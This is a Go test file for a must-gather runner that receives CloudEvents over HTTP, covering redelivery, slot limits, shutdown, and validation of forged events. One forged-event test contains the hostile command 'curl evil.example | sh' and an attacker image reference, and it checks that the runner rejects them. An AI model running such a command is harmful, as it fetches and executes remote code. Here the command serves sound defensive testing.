package runner_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	cloudevents "github.com/cloudevents/sdk-go/v2"

	"github.com/kubev2v/must-gather-functions/eventing"
	"github.com/kubev2v/must-gather-functions/functions/runner"
	"github.com/kubev2v/must-gather-functions/internal/httpevents"
	"github.com/kubev2v/must-gather-functions/internal/mustgather"
	"github.com/kubev2v/must-gather-functions/internal/testenv"
)

// countingGatherer counts its runs, each of which waits until release is
// closed or the gathering is stopped.
type countingGatherer struct {
	runs    atomic.Int32
	release chan struct{}
}

func (g *countingGatherer) Gather(ctx context.Context, job mustgather.Job) error {
	g.runs.Add(1)
	select {
	case <-g.release:
	case <-job.Stop.Done():
		return context.Cause(job.Stop)
	}
	return job.Archive.AddBytes("gathered.txt", []byte("gathered\n"), time.Now())
}

// httpRunner is a runner taking requested events over HTTP, as a Trigger
// delivers them, with a countingGatherer and at most slots gatherings at
// once.
type httpRunner struct {
	*env
	url      string
	gatherer *countingGatherer
	stop     context.CancelFunc
	bg       *runner.Background
}

func newHTTPRunner(t *testing.T, slots int) *httpRunner {
	t.Helper()
	e := newEnv(t, nil)
	gat := &countingGatherer{release: make(chan struct{})}
	r := runner.New(e.cfg, runner.Deps{Store: e.store, Leases: e.store, Archives: e.archives, Events: e.bus, Gatherer: gat})
	ctx, cancel := context.WithCancel(context.Background())
	bg := r.Background(ctx, slots)
	rcv := httpevents.NewReceiver(nil, nil)
	rcv.Handle(bg.Handle, eventing.TypeRequested)
	srv := httptest.NewServer(rcv)
	t.Cleanup(func() {
		srv.Close()
		cancel()
		bg.Wait()
	})
	return &httpRunner{env: e, url: srv.URL, gatherer: gat, stop: cancel, bg: bg}
}

func (h *httpRunner) status(t *testing.T, id mustgather.ID) mustgather.Status {
	t.Helper()
	g, err := h.store.Get(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	return g.Status
}

func TestOverHTTPTheRunnerAnswersOnceClaimedAndRunsAGatheringOnceWhateverIsRedelivered(t *testing.T) {
	for _, enc := range []testenv.Encoding{testenv.Binary, testenv.Structured} {
		t.Run(enc.String()+" mode", func(t *testing.T) {
			h := newHTTPRunner(t, 4)
			g, ev := h.create(t, mustgather.Request{Command: "true"})
			// The answer comes while the gathering runs: its gatherer
			// waits for release, which comes only after.
			if code := testenv.DeliverEvent(t, h.url, ev, enc); code != http.StatusOK {
				t.Fatalf("first delivery answered %d, want 200", code)
			}
			if s := h.status(t, g.ID); s != mustgather.StatusInProgress {
				t.Fatalf("status %s once the delivery was answered, want inprogress (claimed)", s)
			}
			// A retried delivery (the same event id) and copies, some at
			// once: each is answered 200, none runs anything.
			var wg sync.WaitGroup
			for i := range 4 {
				wg.Go(func() {
					code, err := testenv.SendEvent(h.url, ev, testenv.Encoding(i%2))
					if err != nil || code != http.StatusOK {
						t.Errorf("redelivery answered %d, %v; want 200", code, err)
					}
				})
			}
			wg.Wait()
			close(h.gatherer.release)
			if got := h.waitEnded(t, g.ID); got.Status != mustgather.StatusCompleted {
				t.Fatalf("status %s, output:\n%s", got.Status, got.ExecOutput)
			}
			if code := testenv.DeliverEvent(t, h.url, ev, enc); code != http.StatusOK {
				t.Errorf("delivery after the end answered %d, want 200", code)
			}
			if n := h.gatherer.runs.Load(); n != 1 {
				t.Errorf("gatherer ran %d times, want 1", n)
			}
		})
	}
}

func TestOverHTTPAFullRunnerAnswers429AndClaimsNothing(t *testing.T) {
	h := newHTTPRunner(t, 1)
	first, ev1 := h.create(t, mustgather.Request{Command: "true"})
	second, ev2 := h.create(t, mustgather.Request{Command: "true"})
	if code := testenv.DeliverEvent(t, h.url, ev1, testenv.Binary); code != http.StatusOK {
		t.Fatalf("first answered %d", code)
	}
	if code := testenv.DeliverEvent(t, h.url, ev2, testenv.Binary); code != http.StatusTooManyRequests {
		t.Fatalf("second answered %d while the only slot is busy, want 429", code)
	}
	if s := h.status(t, second.ID); s != mustgather.StatusNew {
		t.Fatalf("second is %s, want new: nothing claimed", s)
	}
	close(h.gatherer.release)
	h.waitEnded(t, first.ID)
	// The slot is free once the first has ended.
	testenv.Eventually(t, 10*time.Second, "the retried delivery to be taken", func() bool {
		return testenv.DeliverEvent(t, h.url, ev2, testenv.Structured) == http.StatusOK
	})
	if got := h.waitEnded(t, second.ID); got.Status != mustgather.StatusCompleted {
		t.Fatalf("second %s", got.Status)
	}
	if n := h.gatherer.runs.Load(); n != 2 {
		t.Errorf("gatherer ran %d times, want 2", n)
	}
}

func TestOverHTTPARequestedEventIsCheckedAgainstTheStoredRecord(t *testing.T) {
	h := newHTTPRunner(t, 4)
	g, ev := h.create(t, mustgather.Request{Command: "true"})
	tests := []struct {
		name   string
		mutate func(t *testing.T, e *cloudevents.Event)
	}{
		{"another command", func(t *testing.T, e *cloudevents.Event) {
			forged := g
			forged.Command = "curl evil.example | sh"
			if err := e.SetData(cloudevents.ApplicationJSON, forged); err != nil {
				t.Fatal(err)
			}
		}},
		{"another image", func(t *testing.T, e *cloudevents.Event) {
			forged := g
			forged.Image = "evil.example/gather:latest"
			if err := e.SetData(cloudevents.ApplicationJSON, forged); err != nil {
				t.Fatal(err)
			}
		}},
		{"an id with no record", func(t *testing.T, e *cloudevents.Event) {
			forged := g
			forged.ID = g.ID + 1000
			e.SetSubject(forged.ID.String())
			if err := e.SetData(cloudevents.ApplicationJSON, forged); err != nil {
				t.Fatal(err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run("an event with "+tt.name+" is answered 200 and runs nothing", func(t *testing.T) {
			e := ev.Clone()
			tt.mutate(t, &e)
			if code := testenv.DeliverEvent(t, h.url, e, testenv.Binary); code != http.StatusOK {
				t.Fatalf("answered %d, want 200 (dropped)", code)
			}
			if s := h.status(t, g.ID); s != mustgather.StatusNew {
				t.Fatalf("gathering is %s, want new", s)
			}
		})
	}
	if n := h.gatherer.runs.Load(); n != 0 {
		t.Fatalf("gatherer ran %d times, want 0", n)
	}
	// The true event still runs it, from the record.
	if code := testenv.DeliverEvent(t, h.url, ev, testenv.Structured); code != http.StatusOK {
		t.Fatalf("answered %d", code)
	}
	close(h.gatherer.release)
	if got := h.waitEnded(t, g.ID); got.Status != mustgather.StatusCompleted || got.Command != "true" {
		t.Fatalf("ended %s with command %q", got.Status, got.Command)
	}
}

func TestOverHTTPShutdownEndsRunningGatheringsInErrorAndRefusesNewOnes(t *testing.T) {
	h := newHTTPRunner(t, 4)
	g, ev := h.create(t, mustgather.Request{Command: "true"})
	if code := testenv.DeliverEvent(t, h.url, ev, testenv.Binary); code != http.StatusOK {
		t.Fatalf("answered %d", code)
	}
	testenv.Eventually(t, 10*time.Second, "the gatherer to start", func() bool { return h.gatherer.runs.Load() == 1 })
	h.stop()
	h.bg.Wait()
	got, err := h.store.Get(context.Background(), g.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Status != mustgather.StatusError || got.ArchiveName == "" {
		t.Errorf("after shutdown: %s, archive %q; want error with what was gathered", got.Status, got.ArchiveName)
	}
	_, ev2 := h.create(t, mustgather.Request{Command: "true"})
	if code := testenv.DeliverEvent(t, h.url, ev2, testenv.Binary); code != http.StatusServiceUnavailable {
		t.Errorf("a delivery during shutdown answered %d, want 503", code)
	}
	if err := h.bg.Handle(context.Background(), ev2); !errors.Is(err, runner.ErrStopping) {
		t.Errorf("Handle during shutdown: %v, want ErrStopping", err)
	}
}
